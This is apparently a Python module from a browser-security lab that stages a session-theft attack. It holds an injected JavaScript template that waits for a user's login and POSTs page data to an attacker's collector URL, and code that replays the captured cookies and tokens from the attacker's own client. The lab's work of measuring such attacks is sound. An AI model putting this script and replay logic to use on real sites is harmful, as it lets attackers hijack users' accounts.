"""How does a script carry something out of the browser, and is it worth anything elsewhere?"""

from __future__ import annotations

import json

from lab.attacks.browsers.visit import Visit, tokens_in
from lab.attacks.person import Person
from lab.staging.processes import StageError

# Waits until ada has logged in; then it has the page's `flow`, and all the time that she stays.
AFTER_LOGIN = """
const wait = setInterval(async () => {{
    const flow = FlowClient.flows.get("{key}");
    if (!flow?.loggedIn) return;
    clearInterval(wait);
    const loot = await (async () => ({script}))();
    const body = JSON.stringify(loot);
    await fetch("{collector}", {{ method: "POST", mode: "no-cors", body }});
}}, 20);
"""


def carry_out(script: str, visit: Visit) -> str:
    """A script that waits for the login, and sends what the expression yields to the collector."""
    visit.collector = visit.mallorys.collector()
    return AFTER_LOGIN.format(
        key=visit.scene.strategy.key, script=script, collector=visit.mallorys.url(visit.collector)
    )


def opened_by(visit: Visit) -> list[str]:
    """What opens `whoami` for mallory, of all that her script carried out of the browser.

    Raises `StageError` where nothing arrived: then the attack has not taken place.
    """
    caught = visit.mallorys.wait_for(visit.collector)
    if not caught:
        raise StageError("the injected script sent nothing")
    visit.scene.note("mallory", f"Her collector receives {_sizes(caught[0].body)}.")
    opened = []
    for token in tokens_in(caught[0].body):
        thief = visit.scene.client("mallory")
        present(thief, token)
        if thief.asks("She presents it, on her own machine, to the same site.").is_success:
            opened.append(token)
    return opened


def present(thief: Person, text: str) -> None:
    """Send it along from now on: as a cookie, if that is what it was, or else as a token."""
    name, is_cookie, value = text.partition("=")
    if is_cookie:
        thief.http.cookies.set(name, value, domain=thief.http.base_url.host, path="/")
    elif text.isascii():
        thief.token = text


def _sizes(body: str) -> str:
    told = {name: len(json.dumps(value)) - 2 for name, value in json.loads(body).items()}
    return ", ".join(f"{name}: {size} characters" for name, size in told.items())
